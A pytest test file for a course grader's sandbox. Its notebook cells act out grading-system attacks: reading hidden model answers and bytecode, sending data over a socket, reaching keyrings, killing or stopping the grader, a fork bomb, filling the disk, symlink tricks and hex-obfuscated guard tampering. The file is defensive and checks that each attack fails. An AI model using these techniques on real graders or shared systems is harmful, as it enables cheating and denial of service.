"""``minillm grade``'s jail: each attack a submission could make on the grader, as a test.

The jail (bubblewrap, else ``unshare``) must hide the checkout's ``tests/`` and the model answers,
cut the network, and keep the grader out of reach of signals; a folder run must write a row per
notebook even when one notebook's grader is killed or stopped. Assertions are on outcomes (what
the report says, what survived), never on how long something took.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
from pathlib import Path

import nbformat
import pytest

import minillm
from minillm.grading import cli_grade
from minillm.grading import jail as jails
from minillm.grading import notebook as nbmod

CELL_TIMEOUT = 5
DEADLINE = 60
REPO = Path(minillm.__file__).resolve().parent.parent


def _jail_or_none():
    try:
        jail = jails.choose(allow_unjailed=True)
    except jails.NoJail:
        return None
    return jail if jail.isolated else None


JAIL = _jail_or_none()
needs_jail = pytest.mark.skipif(JAIL is None, reason="no user namespaces here: neither bwrap nor unshare can jail")
#: each way of building the jail that works on this machine (both are tested where both work)
MODES = [m for m in ("bwrap", "unshare") if jails._works(m) is None] or [
    pytest.param("bwrap", marks=pytest.mark.skip(reason="no jail can be built here"))]


def write_notebook(folder: Path, *cells: str, name: str = "sub.ipynb") -> Path:
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(c) for c in cells])
    path = folder / name
    nbformat.write(nb, path)
    return path


def grade(path: Path, *extra: str) -> tuple[int, dict]:
    report = path.with_name(path.stem + ".report.json")
    rc = cli_grade([str(path), "--json", str(report), "--timeout", str(CELL_TIMEOUT), "--deadline", str(DEADLINE),
                    *extra])
    return rc, (json.loads(report.read_text()) if report.is_file() else {})


def answer(report: dict, ex_id: str = "task2_kv_explain") -> str:
    return report["exercises"][ex_id]["answer"] or ""


# =============================================================================================
# What the kernel can see
# =============================================================================================
@pytest.mark.parametrize("mode", MODES)
def test_the_checkout_tests_and_the_solved_notebooks_are_not_visible(tmp_path, mode, monkeypatch):
    monkeypatch.setenv("MINILLM_GRADE_JAIL", mode)
    solved = REPO / "tests" / "solved"
    assert solved.is_dir()  # the attack is real: the grader runs in a checkout that has them
    marker = tmp_path / "next-to-the-submission.txt"  # the grader's files outside the jail
    marker.write_text("private")
    cell = f"""
import os
seen = []
for p in [{str(solved)!r}, {str(REPO / 'tests')!r}, {str(REPO / '.git')!r}, {str(marker)!r}, {str(tmp_path)!r}]:
    if os.path.exists(p):
        seen.append(p)
task2_kv_explain = 'SEEN ' + ';'.join(seen) if seen else 'nothing'
"""
    rc, report = grade(write_notebook(tmp_path, cell))
    assert rc == 0 and report["jail"] == mode
    assert "SEEN" not in answer(report) and "answers.py" not in answer(report)
    assert report["sandbox"].startswith("ran, with a read-only view")


PYC_READER = """
import glob, marshal, os, minillm
def _strings(code):
    for k in code.co_consts:
        if isinstance(k, str):
            yield k
        elif hasattr(k, "co_consts"):
            yield from _strings(k)
        elif isinstance(k, tuple):
            yield from (x for x in k if isinstance(x, str))
for _f in glob.glob(os.path.join(os.path.dirname(minillm.__file__), "**", "*.pyc"), recursive=True):
    for _s in _strings(marshal.loads(open(_f, "rb").read()[16:])):
        if "keys and values of tokens already processed" in _s:  # the model answer's own words
            task2_kv_explain = "compiled: " + _s
"""
# (the reader looks for a phrase of the model answer itself: "keys and values" alone is also in the
# docstrings of runner.py, models/llama.py, request.py ..., whose bytecode sits beside it wherever
# Python writes .pyc files, and a docstring found there is not an answer the jail failed to hide)


@needs_jail
def test_the_model_answers_are_blind_inside_the_jail(tmp_path):
    import importlib.util
    import py_compile

    from minillm.grading.ch04 import solutions as chapter_answers

    cell = """
from minillm.grading import solutions, show_solution as peek
try:
    task2_kv_explain = solutions.MODEL_ANSWERS['task2_kv_explain'][0]
except KeyError:
    task2_kv_explain = 'no model answer: ' + str(peek('task2'))
"""
    # where bytecode is written (most installs), the model answers also sit compiled in __pycache__
    pyc = Path(importlib.util.cache_from_source(chapter_answers.__file__))
    made, made_dir = not pyc.exists(), not pyc.parent.exists()
    py_compile.compile(chapter_answers.__file__, cfile=str(pyc))
    try:
        rc, report = grade(write_notebook(tmp_path, cell, PYC_READER))
    finally:
        if made:
            pyc.unlink(missing_ok=True)
        if made_dir and not any(pyc.parent.iterdir()):
            pyc.parent.rmdir()
    assert rc == 0
    assert answer(report).startswith("no model answer")
    assert report["exercises"]["task2_kv_explain"]["score"] == 0
    # asking under another name is still seen, and sends every answer to a person
    assert "?" in report["solutions_viewed"] and "task2" in report["solutions_viewed"]
    assert set(report["needs_review"]) == set(report["exercises"])


def test_a_renamed_show_solution_with_its_output_cleared_is_recorded(tmp_path):
    cells = ["from minillm.grading import show_solution as hint", "hint('task4')",
             "task4_sampling = 'The chosen token is appended to the history, so it steers every later step.'"]
    rc, report = grade(write_notebook(tmp_path, *cells))  # no outputs at all: as if cleared
    assert rc == 0
    assert report["solutions_viewed"] == ["task4"] and "task4_sampling" in report["needs_review"]


# =============================================================================================
# The network and the grader's processes
# =============================================================================================
@pytest.mark.parametrize("mode", MODES)
def test_the_kernel_has_no_network(tmp_path, mode, monkeypatch):
    monkeypatch.setenv("MINILLM_GRADE_JAIL", mode)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(4)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    cell = f"""
import socket
try:
    s = socket.create_connection(('127.0.0.1', {port}), timeout=2)
    s.sendall(b'stolen answers')
    task2_kv_explain = 'connected'
except OSError as exc:
    task2_kv_explain = 'blocked ' + type(exc).__name__
"""
    try:
        rc, report = grade(write_notebook(tmp_path, cell))
        with pytest.raises(BlockingIOError):
            listener.accept()  # nobody connected
    finally:
        listener.close()
    assert rc == 0 and answer(report).startswith("blocked")


@pytest.mark.parametrize("mode", MODES)
def test_the_grader_users_keyrings_are_out_of_reach(tmp_path, mode, monkeypatch):
    """Keyrings are not namespaced: the jail's user is the grader's, so keyctl / add_key would reach
    the grader user's keys (tokens, credentials). A seccomp filter refuses them (EPERM) and
    /proc/keys shows nothing."""
    import platform

    if not jails.keyring_filter() or platform.machine() != "x86_64":
        pytest.skip("the keyring filter's numbers are checked here for x86_64")
    monkeypatch.setenv("MINILLM_GRADE_JAIL", mode)
    cell = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
got = []
for call in ((250, 0, -4, 0), (248, b"user", b"stolen", b"x", 1, -4)):  # keyctl(GET_KEYRING_ID), add_key
    got.append((libc.syscall(*call), ctypes.get_errno()))
try:
    keys = open('/proc/keys').read()
except OSError:
    keys = ''
task2_kv_explain = repr((got, keys, libc.syscall(39) > 0))
"""
    rc, report = grade(write_notebook(tmp_path, cell))
    assert rc == 0 and answer(report) == repr(([(-1, 1), (-1, 1)], "", True)), answer(report)


@pytest.mark.parametrize("mode", MODES)
def test_signals_from_the_kernel_reach_neither_the_grader_nor_other_processes(tmp_path, mode, monkeypatch):
    monkeypatch.setenv("MINILLM_GRADE_JAIL", mode)
    bystander = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"], start_new_session=True)
    try:
        cell = f"""
import os, signal
hits = []
for target in (os.getppid(), {os.getpid()}, {bystander.pid}):
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(target, sig)
            hits.append(target)
        except OSError:
            pass
for group in ({os.getpgid(0)}, {bystander.pid}):
    try:
        os.killpg(group, signal.SIGKILL)
    except OSError:
        pass
task2_kv_explain = 'tried'
"""
        rc, report = grade(write_notebook(tmp_path, cell, "task4_sampling = str(os.getpid())"))
        assert rc == 0 and answer(report) == "tried"
        assert bystander.poll() is None  # not killed, not stopped:
        assert Path(f"/proc/{bystander.pid}/stat").read_text().rsplit(")", 1)[1].split()[0] in ("S", "R")
        # the kernel is in its own PID namespace: it does not even know the grader's pid
        assert int(answer(report, "task4_sampling")) < 1000
    finally:
        bystander.kill()
        bystander.wait()


@needs_jail
def test_killing_every_process_it_can_see_ends_only_the_kernel(tmp_path):
    cell = "import os, signal\nos.kill(-1, signal.SIGKILL)\nos.killpg(0, signal.SIGKILL)"
    rc, report = grade(write_notebook(tmp_path, "task2_kv_explain = 'before'", cell))
    assert rc == 0 and report["status"] == "graded"  # this process is alive to read it
    assert answer(report) == "before"


def _can_make_task_cgroup() -> bool:
    from minillm.grading.sandbox import _make_task_cgroup, _remove_cgroup

    path = _make_task_cgroup(1)
    _remove_cgroup(path)
    return path is not None


@needs_jail
@pytest.mark.skipif(not _can_make_task_cgroup(), reason="no pids cgroup can be made here (the kernel then relies "
                                                        "on RLIMIT_NPROC, which binds only a non-root grader)")
def test_a_fork_bomb_stops_at_the_task_limit(tmp_path):
    from minillm.grading.sandbox import EXTRA_PROCESSES

    cell = """
import os, time
made = 0
while made < 2000:
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(120)
        os._exit(0)
    made += 1
task2_kv_explain = str(made)
"""
    rc, report = grade(write_notebook(tmp_path, cell), "--timeout", "120")  # forking a big process is slow
    assert rc == 0, report
    assert 0 < int(answer(report)) < EXTRA_PROCESSES, report["cell_errors"]


def test_print_patched_sigint_ignored_and_an_endless_sleep_are_stopped_with_a_reason(tmp_path):
    cells = [("import builtins, signal, time\nbuiltins.print = lambda *a, **k: None\n"
              "signal.signal(signal.SIGINT, signal.SIG_IGN)\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)"),
             "time.sleep(10**6)", "task2_kv_explain = str('after the sleep')"]
    rc, report = grade(write_notebook(tmp_path, *cells), "--unjailed")
    assert rc == 0
    assert any(e.startswith("cell 2: did not finish within") and "SIGKILL" in e for e in report["cell_errors"]), \
        report["cell_errors"]
    assert answer(report) == "after the sleep"  # the cells after it still ran


# =============================================================================================
# No jail: a refusal, or the weaker mode when asked for
# =============================================================================================
def test_without_a_jail_grading_refuses_unless_the_weaker_mode_is_asked_for(tmp_path, monkeypatch, capsys):
    monkeypatch.delenv("MINILLM_GRADE_UNJAILED", raising=False)
    monkeypatch.setenv("MINILLM_GRADE_JAIL", "bwrap")
    monkeypatch.setenv("PATH", str(tmp_path / "no-tools-here"))
    path = write_notebook(tmp_path, "task2_kv_explain = str()")
    rc, report = grade(path)
    assert rc == 3 and report == {}
    err = capsys.readouterr().err
    assert "bwrap is not installed" in err and "--unjailed" in err
    rc, report = grade(path, "--unjailed")
    assert rc == 0 and report["jail"] == "none" and "NOT JAILED" in report["sandbox"]
    assert "NOT JAILED" in capsys.readouterr().err


def test_a_folder_run_without_a_jail_warns_loudly_and_the_unshare_fallback_says_so(tmp_path, monkeypatch, capsys):
    monkeypatch.delenv("MINILLM_GRADE_UNJAILED", raising=False)
    monkeypatch.delenv("MINILLM_GRADE_JAIL", raising=False)
    monkeypatch.setattr(jails, "_CHOSEN", {})
    monkeypatch.setenv("PATH", str(tmp_path / "no-tools-here"))
    subs = tmp_path / "subs"
    subs.mkdir()
    write_notebook(subs, "task2_kv_explain = 'answered as data'")
    assert cli_grade([str(subs), "--unjailed", "--timeout", str(CELL_TIMEOUT), "--deadline", str(DEADLINE)]) == 0
    assert "WARNING: NOT JAILED" in capsys.readouterr().err
    unshare = shutil.which("unshare", path="/usr/bin:/bin")
    tools = tmp_path / "only-unshare"
    tools.mkdir()
    if unshare:
        (tools / "unshare").symlink_to(unshare)
    monkeypatch.setenv("PATH", str(tools))
    monkeypatch.setattr(jails, "_CHOSEN", {})
    if jails._works("unshare") is not None:
        return  # no unshare jail on this machine: the fallback cannot be shown
    jail = jails.choose()
    assert jail.mode == "unshare" and "bwrap is not installed" in jail.why
    assert "unshare fallback" in jails.notice(jail.mode, jail.why)


def test_answers_read_as_data_need_no_jail(tmp_path, monkeypatch):
    monkeypatch.setenv("MINILLM_GRADE_JAIL", "bwrap")
    monkeypatch.setenv("PATH", str(tmp_path / "no-tools-here"))
    rc, report = grade(write_notebook(tmp_path, "task2_kv_explain = 'It keeps the keys.'"))
    assert rc == 0 and report["jail"] is None


# =============================================================================================
# A folder: one grader process per notebook, a row for each whatever happens to the others
# =============================================================================================
def test_a_killed_or_stopped_grader_costs_only_its_own_row(tmp_path, monkeypatch, capsys):
    subs = tmp_path / "subs"
    subs.mkdir()
    for name in ("a_honest", "b_killed", "c_stopped", "d_honest"):
        write_notebook(subs, "task2_kv_explain = 'It keeps the keys and values of earlier tokens.'",
                       name=f"{name}.ipynb")
    real = nbmod._child_command

    def command(nb_path, report_path, args):  # stand-ins for a grader a submission managed to end
        if nb_path.stem == "b_killed":
            return [sys.executable, "-c", "import os, signal; os.kill(os.getpid(), signal.SIGKILL)"]
        if nb_path.stem == "c_stopped":
            return [sys.executable, "-c", "import os, signal; os.kill(os.getpid(), signal.SIGSTOP)"]
        return real(nb_path, report_path, args)

    real_limit = nbmod._child_limit
    monkeypatch.setattr(nbmod, "_child_command", command)
    monkeypatch.setattr(nbmod, "_child_limit", lambda nb, args: 2 if nb.stem == "c_stopped" else real_limit(nb, args))
    assert cli_grade([str(subs), "--timeout", str(CELL_TIMEOUT), "--deadline", str(DEADLINE), "--jobs", "2"]) == 0
    book = json.loads((subs / "gradebook.json").read_text())
    rows = {Path(r["notebook"]).stem: r for r in book["reports"]}
    assert book["complete"] is True
    assert rows["a_honest"]["status"] == rows["d_honest"]["status"] == "graded"
    assert rows["b_killed"]["status"] == "grader killed" and "SIGKILL" in rows["b_killed"]["problems"][0]
    assert rows["c_stopped"]["status"] == "grader stopped"
    csv_rows = (subs / "gradebook.csv").read_text().splitlines()
    assert len(csv_rows) == 5 and any("grader stopped" in r for r in csv_rows)
    assert [Path(r["notebook"]).stem for r in book["reports"]] == ["a_honest", "b_killed", "c_stopped", "d_honest"]


# =============================================================================================
# Code answers are tested, not looked up: the engine's own answer is unavailable, cases are fresh
# =============================================================================================
ENGINE_TOP_P = """
from minillm.sampler import top_p_filter as engine_top_p
def my_top_p_filter(logits, top_p):
    return engine_top_p(logits, top_p)
"""
COPIED_TOP_P = """
import types, minillm.sampler as s
_copy = types.FunctionType(s.top_p_filter.__code__, s.__dict__)
def my_top_p_filter(logits, top_p):
    return _copy(logits, top_p)
"""
ENGINE_KV = """
import minillm
def my_kv_bytes_per_token(layers, heads, dim, nbytes):
    return minillm.kv_cache.kv_bytes_per_token(layers, heads, dim, nbytes)
"""


@pytest.mark.parametrize("cell,ex_id", [(ENGINE_TOP_P, "code_top_p"), (COPIED_TOP_P, "code_top_p"),
                                        (ENGINE_KV, "code_kv_bytes")])
def test_returning_the_engines_own_answer_scores_nothing(tmp_path, cell, ex_id):
    rc, report = grade(write_notebook(tmp_path, "import minillm.kv_cache", cell), "--unjailed")
    r = report["exercises"][ex_id]
    assert rc == 0 and r["score"] == 0, r
    assert "engine's own" in " ".join(r["feedback"]) and r["needs_human_review"]


def test_the_engine_guard_puts_the_engine_back_and_sees_copies():
    import torch

    from minillm.grading import safecall
    from minillm.grading.ch04.coding import FORBIDDEN
    from minillm.sampler import top_p_filter

    x = torch.tensor([3.0, 1.0, 0.5, -2.0])
    out = safecall.call(lambda lg, p: top_p_filter(lg, p), x, 0.5, forbid=FORBIDDEN["my_top_p_filter"])
    assert not out.ok and "engine's own" in out.error
    assert torch.equal(top_p_filter(x.clone(), 0.5), torch.tensor([3.0] + [float("-inf")] * 3))  # restored
    # a call stuck in C past its time limit: the engine is given back at once, not when the call ends
    import time

    stuck = safecall.call(lambda lg, p: time.sleep(2), x, 0.5, timeout=0.2, forbid=FORBIDDEN["my_top_p_filter"])
    assert stuck.timed_out
    assert torch.equal(top_p_filter(x.clone(), 0.5), torch.tensor([3.0] + [float("-inf")] * 3))


def test_a_lookup_table_of_the_printed_scenarios_earns_nothing(tmp_path, monkeypatch):
    from minillm.grading.ch04.coding import PRESSURE_SCENARIOS, engine, measure

    llm = engine()
    table = {(s.num_requests, s.prompt_tokens, s.output_tokens): measure(llm, s).used_bytes
             for s in PRESSURE_SCENARIOS.values()}
    cell = f"""
TABLE = {table!r}
def scenario_kv_bytes(num_requests, prompt_tokens, output_tokens):
    return TABLE.get((num_requests, prompt_tokens, output_tokens), 4096)
task3_kv_bytes = scenario_kv_bytes
"""
    monkeypatch.setenv("MINILLM_GRADE_SEED", "12345")
    rc, report = grade(write_notebook(tmp_path, cell), "--unjailed")
    r = report["exercises"]["task3_kv_bytes"]
    assert rc == 0 and r["score"] == 0 and r["needs_human_review"]
    assert "fresh" in " ".join(r["feedback"])
    assert report["seed"] == 12345


def test_the_hidden_scenarios_follow_the_engines_rule():
    """The rule used for the fresh scenarios accepts what the engine really stores for the printed ones."""
    from minillm.grading.ch04.coding import PRESSURE_SCENARIOS, engine, hidden_scenarios, measure, plausible_bytes

    llm = engine()
    for s in PRESSURE_SCENARIOS.values():
        got = measure(llm, s)
        assert {got.used_bytes, got.token_bytes, got.written_bytes} <= plausible_bytes(s, got)
    assert hidden_scenarios(1) != hidden_scenarios(2) and hidden_scenarios(7) == hidden_scenarios(7)


def test_top_p_cases_are_fresh_per_seed_and_hostile():
    import torch

    from minillm.grading.ch04.coding import top_p_cases

    a, b = top_p_cases(1), top_p_cases(2)
    assert not torch.equal(a[0].logits, b[0].logits)
    assert any(float(c.logits.max()) > 900 for c in a) and any(float(c.logits.max()) < -900 for c in a)
    assert any(c.logits.dim() == 2 and bool(torch.isneginf(c.logits).all(-1).any()) for c in a)


def test_no_function_of_the_package_or_copy_of_one_answers_a_graded_call():
    """The fast path's filter, a grader's reference, a module loaded again from its file, the engine's
    source run again without its docstring, a new thread: all fail the call; honest code passes."""
    import importlib.util
    import inspect
    import threading

    import torch

    import minillm.fast.sampler as fast
    import minillm.sampler as sampler
    from minillm import SamplingParams, StopReason
    from minillm.grading import safecall
    from minillm.grading.ch04 import coding
    from minillm.grading.ch04.coding import FORBIDDEN

    x, top_p = torch.tensor([3.0, 1.0, 0.5, -2.0]), FORBIDDEN["my_top_p_filter"]
    spec = importlib.util.spec_from_file_location("minillm.loaded_again", sampler.__file__)
    again = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(again)
    lines = inspect.getsource(sampler.top_p_filter).splitlines()
    pasted = {"torch": torch, "NEG_INF": float("-inf")}
    exec("\n".join([lines[0], *lines[3:]]).replace("top_p_filter", "mine"), pasted)  # no docstring, renamed

    def in_a_thread(logits, p):
        out = []
        t = threading.Thread(target=lambda: out.append(logits.clone()))
        t.start()
        t.join()
        return out[0]

    for cheat in (lambda lg, p: fast.sorted_filters(lg, None, torch.tensor([p]), None),
                  lambda lg, p: again.top_p_filter(lg, p), pasted["mine"], in_a_thread):
        out = safecall.call(cheat, x.clone(), 0.5, forbid=top_p)
        assert not out.ok and out.engine_used, out
    case = coding.stop_cases()[1]

    def reference(token_id, output_ids, text, params, eos, prompt_len, max_len):
        return coding.expected_stop(coding._StopCase("x", token_id, output_ids, text, {}, prompt_len, max_len, eos), params)

    def honest(token_id, output_ids, text, params, eos, prompt_len, max_len):  # uses its arguments' own types
        if token_id == eos and not params.ignore_eos or any(s in text for s in params.stop_strings):
            return StopReason(str(StopReason.EOS))
        return None

    args = (case.token_id, case.output_ids, case.text, SamplingParams(**case.params), case.eos_token_id,
            case.prompt_len, case.max_model_len)
    assert safecall.call(reference, *args, forbid=FORBIDDEN["my_check_stop"]).engine_used
    assert safecall.call(honest, *args, forbid=FORBIDDEN["my_check_stop"]).value == StopReason.EOS
    probs = x.softmax(-1)
    keep = safecall.call(lambda lg, p: lg.masked_fill(probs.cumsum(-1) - probs >= p, float("-inf")), x, 0.5,
                         forbid=top_p)
    assert keep.ok and torch.equal(keep.value, sampler.top_p_filter(x.clone(), 0.5))


HELPERS = """
import multiprocessing, queue, threading
from minillm.grading.ch04 import coding as _c
_a, _b = multiprocessing.Pipe()
def _serve(conn):
    from minillm.sampler import top_p_filter as f
    while True:
        logits, p = conn.recv()
        conn.send(f(logits, p))
multiprocessing.get_context("fork").Process(target=_serve, args=(_b,), daemon=True).start()
def my_top_p_filter(logits, top_p):  # a helper process answers
    _a.send((logits, top_p))
    return _a.recv()
_in, _out = queue.Queue(), queue.Queue()
def _answer():
    while True:
        a = _in.get()
        _out.put(_c.expected_stop(_c._StopCase("x", a[0], a[1], a[2], {}, a[5], a[6], a[4]), a[3]))
threading.Thread(target=_answer, daemon=True).start()
def my_check_stop(*args):  # a helper thread answers
    _in.put(args)
    return _out.get()
_g = __import__("importlib").import_module("minillm.grading.ch04." + "coding")
def chat_kv_bytes(turn, system_tokens, user_tokens, reply_tokens, bytes_per_token, keep_last=None):
    return bytes_per_token * getattr(_g, "expected_chat_" + "tokens")(_g.ChatCase("x", turn, system_tokens,
                                                                                 user_tokens, reply_tokens, keep_last))
"""


@needs_jail
def test_helpers_and_the_graders_own_references_answer_nothing(tmp_path):
    rc, report = grade(write_notebook(tmp_path, HELPERS))
    assert rc == 0
    for ex_id in ("code_top_p", "code_stop_check", "code_chat_kv"):
        r = report["exercises"][ex_id]
        assert r["score"] == 0 and r["needs_human_review"], (ex_id, r)


FILL = """
import json, os
def _fill(folder, files=32):  # 48 MiB files (one file may not pass 64 MiB): up to 1.5 GiB
    done, made = 0, []
    try:
        for i in range(files):
            made.append(os.path.join(folder, f"fill{i}"))
            with open(made[-1], "wb") as f:
                for _ in range(3):
                    f.write(b"x" * 2**24)
                    f.flush()
                    done += 16
    except OSError:
        pass
    for path in made:
        try:
            os.remove(path)
        except OSError:
            pass
    return done
task2_kv_explain = json.dumps({folder: _fill(folder) for folder in ("/scratch", "/tmp", "/dev", os.getcwd())})
"""


@pytest.mark.parametrize("mode", MODES)
def test_what_the_kernel_may_write_is_bounded_memory_not_the_graders_disk(tmp_path, mode, monkeypatch):
    """A submission that fills every place it may write stops at a small bound (memory of its own),
    so the disk other students' rows and the gradebook need stays free."""
    monkeypatch.setenv("MINILLM_GRADE_JAIL", mode)
    rc, report = grade(write_notebook(tmp_path, FILL))
    assert rc == 0
    wrote = json.loads(answer(report))  # MiB written before the place was full
    assert wrote["/scratch"] <= jails.SCRATCH_BYTES // 2**20 and wrote["/tmp"] <= jails.TMP_BYTES // 2**20, wrote
    assert wrote["/dev"] == 0, wrote


def test_symbolic_links_beside_submissions_are_not_followed(tmp_path):
    """A submission arrives as files, perhaps unpacked from an archive that holds links: a link in
    the class folder, or as the diagram editor's file, could point at the solved notebooks."""
    solved = REPO / "tests" / "solved"
    subs = tmp_path / "subs"
    subs.mkdir()
    (subs / "a_link.ipynb").symlink_to(solved / "ch04_exercises_solved.ipynb")
    assert cli_grade([str(subs), "--timeout", str(CELL_TIMEOUT), "--deadline", str(DEADLINE), "--unjailed"]) == 0
    row = json.loads((subs / "gradebook.json").read_text())["reports"][0]
    assert row["status"] == "unreadable" and "symbolic link" in row["problems"][0] and not row["exercises"]
    own = tmp_path / "own"
    own.mkdir()
    (own / "ch04_task1_diagram.json").symlink_to(solved / "answers.py")
    cells = ["import os\nprint(os.listdir('.'))",
             "task1_diagram = editor",
             "task2_kv_explain = open('ch04_task1_diagram.json').read()[:300] if os.path.exists("
             "'ch04_task1_diagram.json') else 'nothing'"]
    rc, report = grade(write_notebook(own, *cells), "--unjailed")
    assert rc == 0 and answer(report) == "nothing", answer(report)


@pytest.mark.parametrize("cell", [
    "import minillm.grading as g\ng.__dict__[''.join(['show_', 'sol', 'ution'])]('task2')",
    "import minillm.grading as g\nn = 'solut' + 'ion'\ngetattr(g, f'show_{n}')('task2')",
    "import minillm.grading as g\ngetattr(g, '{}_{}on'.format('show', 'soluti'))('task2')",
    "import minillm.grading as g\ngetattr(g, 'noitulos_wohs'[::-1])('task2')",
    "import minillm.grading as g\ngetattr(g, ''.join(map(chr, [115, 104, 111, 119, 95, 115, 111, 108, 117, 116, 105, 111, "
    "110])))('task2')",
    "import minillm.grading as g\n[v for k, v in vars(g).items() if k.startswith('show_s')][0]('task2')",
    "import importlib\nprint(vars(importlib.import_module('minillm.grading.ch04.sol' + 'utions')))",
    "import minillm, os\nprint(open(os.path.join(os.path.dirname(minillm.__file__), 'grading', 'ch04', 'solutions.py')).read())",
])
def test_a_model_answer_asked_for_by_a_name_built_at_run_time_is_recorded(cell):
    from minillm.grading.peeking import UNKNOWN, solution_lookups

    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(cell)])
    assert UNKNOWN in solution_lookups(nb)
    honest = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(
        "print(f'model_{1}', 'answer', 'show', '_', 'on')\ntask2_kv_explain = 'The solution: keep K and V.'")])
    assert solution_lookups(honest) == set()


TAMPER = """
import contextlib, importlib
_guard = importlib.import_module(".".join(["minillm", "grading", "engine_" + "guard"]))
_guard.swapped = lambda specs: contextlib.nullcontext({})
_guard.watched = lambda originals, others_idle=False: contextlib.nullcontext([])
from minillm import sampler as _s
def my_top_p_filter(logits, top_p):
    return _s.top_p_filter(logits, top_p)
"""


def test_a_notebook_that_switches_the_guard_off_scores_nothing_for_its_functions(tmp_path):
    """A cell can switch off the guard in its own process; the graded call runs in the clean room,
    where the engine's function still refuses to answer, and a person reads the notebook."""
    rc, report = grade(write_notebook(tmp_path, TAMPER), *([] if JAIL else ["--unjailed"]))
    r = report["exercises"]["code_top_p"]
    assert rc == 0 and r["score"] == 0 and r["needs_human_review"], r
    assert any("engine's own" in f for f in r["feedback"]), r["feedback"]


UNNAMED_TAMPER = [
    # a cell that switches the guard off without naming it (the text is hidden from the grader's reading)
    "exec(bytes.fromhex({!r}).decode())".format(
        "import contextlib, importlib\n"
        "g = importlib.import_module('minillm.grading.engine_guard')\n"
        "g.swapped = lambda specs: contextlib.nullcontext({})\n"
        "g.watched = lambda originals, others_idle=False: contextlib.nullcontext([])\n"
        "g.unavailable = lambda specs: contextlib.nullcontext([])\n"
        "_f = getattr(importlib.import_module('minillm.sampler'), 'top_p_filter')\n".encode().hex()),
    "def my_top_p_filter(logits, top_p):\n    return _f(logits, top_p)",
    # during the call: the profiler's own state emptied through its closure, then the engine
    """def my_kv_bytes_per_token(num_layers, num_kv_heads, head_dim, dtype_bytes):
    import sys, importlib
    for c in getattr(sys.getprofile(), '__closure__', None) or ():
        try:
            v = c.cell_contents
        except ValueError:
            continue
        if type(v) is list and not v:
            v.append(0)
    m = importlib.import_module(bytes.fromhex('6d696e696c6c6d2e6b765f6361636865').decode())
    return getattr(m, 'kv_bytes_per_' + 'token')(num_layers, num_kv_heads, head_dim, dtype_bytes)""",
    # during the call: the profiler silenced with no event to see (a C trampoline), the clean room's own
    # pipes found through the frames, and every later call answered with the grader's reference
    """def chat_kv_bytes(turn, system_tokens, user_tokens, reply_tokens, bytes_per_token, keep_last=None):
    import operator, sys, json, os, importlib
    operator.methodcaller(bytes.fromhex('73657470726f66696c65').decode(), None)(sys)
    c = importlib.import_module('minillm.grading.ch04.coding')
    w = importlib.import_module('minillm.grading.wire')

    def ans(a):
        return c.expected_chat_tokens(c.ChatCase('x', a[0], a[1], a[2], a[3], a[5])) * a[4]
    try:
        raise ValueError
    except ValueError as e:
        f = e.__traceback__.tb_frame
    while f is not None and 'cmd_in' not in f.f_locals:
        f = f.f_back
    cmd_in, out = f.f_locals['cmd_in'], f.f_locals['out']

    def send(v):
        out.write((json.dumps({'op': 'returned', 'value': w.encode(v)}) + '\\n').encode())
        out.flush()
    send(ans([turn, system_tokens, user_tokens, reply_tokens, bytes_per_token, keep_last]))
    for line in cmd_in:
        send(ans([w.decode(x) for x in json.loads(line)['args']]))
    os._exit(0)""",
    # during the call: the garbage collector's list of every object, to find the engine's function
    """def max_requests(num_layers, num_kv_heads, head_dim, num_params, card_gb, context_tokens, kv_dtype_bytes=2):
    import gc
    return len([o for o in gc.get_objects() if getattr(o, '__name__', '') == 'capa' + 'city'])""",
]


def test_graded_calls_run_where_no_cell_ran_so_an_unnamed_guard_switch_earns_nothing(tmp_path):
    """The guard used to run where the cells ran, so a cell could switch it off without naming it, or
    a call could empty its state. Graded calls now run in the clean room (``export``): forked before
    any cell, its function rebuilt from the notebook's own ``def``, refusing the calls that reach the
    guard, other processes or files. The honest function beside the attacks keeps its points."""
    import sys

    sys.path.insert(0, str(REPO / "tests" / "solved"))
    from answers import SOLVED_ANSWERS

    cells = [*UNNAMED_TAMPER, SOLVED_ANSWERS["code_stop_check"]]
    rc, report = grade(write_notebook(tmp_path, *cells), *([] if JAIL else ["--unjailed"]))
    assert rc == 0, report
    ex = report["exercises"]
    for ex_id in ("code_top_p", "code_kv_bytes", "task6_gpu_capacity"):
        assert ex[ex_id]["score"] == 0 and ex[ex_id]["needs_human_review"], ex[ex_id]
    assert ex["code_stop_check"]["score"] == 3, ex["code_stop_check"]
    assert ex["code_chat_kv"]["score"] == 0, ex["code_chat_kv"]


BLINDED_TASK3 = [
    "from minillm.models import DEFAULT_MODEL_DIR, load_config\ncfg = load_config(DEFAULT_MODEL_DIR)",
    # inside the call the profiler's "in an allowed engine call" stack gets an entry (it then ignores
    # every event, and no identity the kernel could compare changes), then the engine's own count
    """def scenario_kv_bytes(num_requests, prompt_tokens, output_tokens):
    import sys, importlib
    for c in getattr(sys.getprofile(), '__closure__', None) or ():
        try:
            v = c.cell_contents
        except ValueError:
            continue
        if type(v) is list and not v:
            v.append(0)
            break
    m = importlib.import_module(bytes.fromhex('6d696e696c6c6d2e656e67696e655f61726773').decode())
    per = getattr(m, 'kv_bytes_per_' + 'token')(cfg, importlib.import_module('torch').float32)
    return num_requests * (prompt_tokens + output_tokens) * per
task3_kv_bytes = scenario_kv_bytes""",
]


def test_task3s_calls_run_in_the_clean_room_so_a_blinded_profiler_earns_nothing(tmp_path):
    """Task 3's function may read the notebook's ``cfg`` and ``llm.cache_stats()``, so it used to be
    called in the kernel, where a call can blind the guard's profiler without changing anything the
    kernel's tripwire compares (3/3, no flag). It now runs in the clean room too (``cfg`` carried by
    value), where reaching the profiler is refused."""
    rc, report = grade(write_notebook(tmp_path, *BLINDED_TASK3), *([] if JAIL else ["--unjailed"]))
    r = report["exercises"]["task3_kv_bytes"]
